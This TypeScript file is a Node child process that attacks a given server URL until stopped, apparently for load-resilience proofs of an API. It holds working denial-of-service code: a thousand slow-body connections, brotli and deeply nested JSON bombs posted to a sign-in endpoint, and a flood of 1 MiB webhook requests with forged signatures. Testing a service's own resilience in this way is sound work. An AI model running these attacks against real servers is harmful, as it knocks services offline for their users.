import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { brotliCompressSync } from 'node:zlib';

/**
 * A process that attacks a server until it is stopped: `{ "url": …, "attack": "slow" | "bombs" | "forged" }`. It is a separate file,
 * because the proofs start it too.
 */
interface Given {
  url: string;
  attack: 'slow' | 'bombs' | 'forged';
  /** Sends each slow body from its own address, starting with 127.1.0.1. */
  addresses?: boolean;
}

const MEBIBYTE = 1024 * 1024;
const SLOW_CLIENTS = 1000;
const REOPEN_MS = 2000;
const BOMB_MS = 1000;
const FORGED_LANES = 10;
const FORGED_A_SECOND = 100;

const { url, attack, addresses = false } = JSON.parse(process.argv[2]!) as Given;
const { hostname, port } = new URL(url);
/** Responses by status; 0 counts connections that were cut without a response. */
const answers: Record<number, number> = {};
const count = (status: number) => (answers[status] = (answers[status] ?? 0) + 1);

/** 1,000 connections with headers and one byte of a body, opened again when they are cut. */
function openSlow(index: number): void {
  const localAddress = addresses ? `127.1.${Math.floor(index / 250)}.${(index % 250) + 1}` : undefined;
  const socket = connect({ host: hostname, port: Number(port), localAddress });
  let status = 0;
  socket.on('data', (chunk: Buffer) => (status ||= Number(/^HTTP\/1\.1 (\d{3})/.exec(chunk.toString('latin1'))?.[1] ?? 0)));
  socket.on('error', () => undefined);
  socket.on('close', () => {
    count(status);
    setTimeout(() => openSlow(index), REOPEN_MS);
  });
  const path = index % 2 === 0 ? '/v1/auth/sign-in/email' : '/v1/usage';
  socket.write(`POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{`);
}

const agent = new Agent({ keepAlive: true });

function post(path: string, body: Buffer, headers: Record<string, string>): Promise<void> {
  return new Promise((resolve) => {
    const call = request(`${url}${path}`, { method: 'POST', agent, headers: { 'content-length': body.length, ...headers } });
    call.once('response', (response) => {
      count(response.statusCode!);
      response.resume();
      response.once('close', resolve);
    });
    call.once('error', () => {
      count(0);
      resolve();
    });
    call.end(body);
  });
}

/** 60 a minute: a compressed body, the same one uncompressed, and nested lists. */
function throwBombs(): void {
  const items = `{"provider":"google","idToken":[${'{},'.repeat(349_000)}{}]}`;
  const json = { 'content-type': 'application/json' };
  const bombs: [Buffer, Record<string, string>][] = [
    [brotliCompressSync(items), { ...json, 'content-encoding': 'br' }],
    [Buffer.from(items.slice(0, MEBIBYTE - 10)), json],
    [Buffer.from(`{"password":${'['.repeat(500_000)}${']'.repeat(500_000)}}`), json],
  ];
  let next = 0;
  setInterval(() => void post('/v1/auth/sign-in/social', ...bombs[(next += 1) % bombs.length]!), BOMB_MS);
}

/** Up to 100 MiB per second with invalid signatures, limited by the response time. */
async function forge(): Promise<void> {
  const body = Buffer.alloc(MEBIBYTE, 'x');
  for (;;) {
    const headers = { 'webhook-id': 'msg_1', 'webhook-timestamp': String(Math.floor(Date.now() / 1000)), 'webhook-signature': 'v1,AAAA' };
    const pause = new Promise((resolve) => setTimeout(resolve, (1000 * FORGED_LANES) / FORGED_A_SECOND));
    await Promise.all([pause, post('/webhooks/clerk', body, { 'content-type': 'application/json', ...headers })]);
  }
}

if (attack === 'slow') for (let index = 0; index < SLOW_CLIENTS; index += 1) openSlow(index);
else if (attack === 'bombs') throwBombs();
else for (let lane = 0; lane < FORGED_LANES; lane += 1) void forge();

process.on('message', ({ ask }: { ask: string }) => {
  if (ask === 'answers') process.send?.(answers);
});
process.on('disconnect', () => process.exit());
process.send?.({});
